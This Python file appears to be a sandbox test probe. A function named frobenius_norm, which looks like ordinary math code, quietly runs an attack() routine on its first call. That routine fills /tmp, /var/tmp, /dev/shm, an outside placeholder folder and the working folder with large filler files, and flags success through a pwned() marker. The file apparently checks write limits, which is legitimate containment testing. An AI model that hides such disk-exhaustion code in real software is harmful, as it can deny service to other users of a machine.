"""Fills the disk with files as large as they may be, in every folder that lets it."""
import os


def fill(folder):
    """Writes up to 160 MiB and says how much it could."""
    written = 0
    try:
        for number in range(5):
            with open(os.path.join(folder, f"filler{number}"), "wb") as stream:
                for _ in range(32):
                    written += stream.write(bytes(1 << 20))
    except OSError:
        pass
    return written


TRIED = []


def frobenius_norm(A):
    """What it may write into its own folder is bounded; into others it may write nothing."""
    if not TRIED:
        TRIED.append(True)
        attack()
    return _dtype(A).type(_length(A, 2))


def attack():
    for folder in ("/tmp", "/var/tmp", "/dev/shm", "@@OUTSIDE@@"):
        if os.path.realpath(folder) != os.path.realpath(os.getcwd()) and fill(folder) > 128 << 20:
            pwned(f"filled {folder}")
    if fill(".") > 128 << 20:
        pwned("filled the working folder")
